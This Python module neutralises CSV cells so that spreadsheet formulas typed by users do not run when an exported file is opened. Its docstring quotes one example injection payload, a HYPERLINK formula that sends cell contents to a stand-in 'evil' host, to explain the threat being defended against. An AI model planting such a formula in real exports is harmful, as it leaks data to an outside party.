"""Exports that spreadsheets open (CSV): every cell passes one neutraliser, so a value a user
typed cannot run as a formula when a delegate opens the file (CSV injection:
`=HYPERLINK("http://evil/?"&A1, "Click")`).

A cell beginning with =, +, -, @ (or a tab or carriage return, which some spreadsheets skip
before reading a formula) gets a leading apostrophe: Excel, LibreOffice and Google Sheets show
the text as typed and evaluate nothing. Every export writes through `csv_writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> str:
    """`value` as a CSV cell that no spreadsheet reads as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    """A file-like object whose `write` returns what it is given, so each row can be streamed."""

    def write(self, value: str) -> str:
        return value


class SafeCSVWriter:
    """csv.writer whose every cell is neutralised. Without a stream, `writerow` returns the row's
    text (for a StreamingHttpResponse)."""

    def __init__(self, stream: Any = None) -> None:
        self._writer = csv.writer(stream if stream is not None else _Echo())

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_cell(cell) for cell in row])


def csv_writer(stream: Any = None) -> SafeCSVWriter:
    """The writer every CSV export uses (see the module's docstring)."""
    return SafeCSVWriter(stream)
